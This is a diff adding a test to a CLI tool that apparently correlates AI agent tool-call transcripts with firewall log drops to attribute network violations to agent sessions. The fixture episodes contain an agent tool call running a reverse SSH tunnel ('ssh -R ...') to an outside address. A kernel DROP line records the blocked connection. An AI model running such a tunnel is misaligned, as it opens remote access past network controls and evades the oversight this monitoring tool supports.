@@ -54,6 +54,27 @@ describe('correlate --workers', () => {
     expect(runs[1]!.stderr).toBe(runs[0]!.stderr);
   });
 
+  it('gives the same report with transcripts that copy each other and date a syslog read in a worker', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'af-workers-transcripts-'));
+    const call = (session: string, id: string, at: string, command: string) =>
+      JSON.stringify({ v: 'agent-events/1', type: 'tool_call', session, call_id: id, tool: 'bash', command, start: at, end: at.replace(':00Z', ':09Z'), host: 'host-a' });
+    const episode = (n: number) => [0, 1, 2].map((i) => call(`ep${n}`, `c${i}`, `2024-03-05T10:0${i}:00Z`, i === 1 ? 'ssh -R 9000:localhost:22 203.0.113.9' : 'ls')).join('\n') + '\n';
+    writeFileSync(join(dir, 'a-episode.jsonl'), episode(1));
+    writeFileSync(join(dir, 'b-episode.jsonl'), episode(2));
+    writeFileSync(join(dir, 'c-copy.jsonl'), episode(1));
+    writeFileSync(join(dir, 'kern.log'), 'Mar  5 10:01:02 host-a kernel: DROP: IN=eth0 OUT= SRC=10.0.0.5 DST=203.0.113.9 PROTO=TCP SPT=40000 DPT=22\n');
+    const runs = ['0', '2', '3'].map((n) => runCli(['correlate', dir, '--format', 'json', '--workers', n, '-q']));
+    for (const r of runs) expect(r.status, r.stderr).toBe(0);
+    expect(runs[1]!.stdout.equals(runs[0]!.stdout)).toBe(true);
+    expect(runs[2]!.stdout.equals(runs[0]!.stdout)).toBe(true);
+    const report = JSON.parse(runs[0]!.stdout.toString());
+    expect(report.violations.map((v: { time: string }) => v.time)).toEqual(['2024-03-05T10:01:02.000Z']);
+    // The two episodes ran the same command at the same time: a tie, both named, the copy not counted.
+    const best = report.violations[0].candidates.filter((c: { callId: string }) => c.callId === 'c1');
+    expect(best.map((c: { session: string }) => c.session).sort()).toEqual(['ep1', 'ep2']);
+    expect(JSON.stringify(report.inputs.find((i: { path: string }) => i.path.endsWith('c-copy.jsonl')))).toMatch(/cop/);
+  });
+
   it('stops the workers it started early when the rules turn out to be broken', () => {
     const dir = mkdtempSync(join(tmpdir(), 'af-workers-rules-'));
     writeFileSync(join(dir, 'bad.yml'), 'title: broken\ndetection:\n  sel: { action: deny }\n  condition: sel and nothing\n');
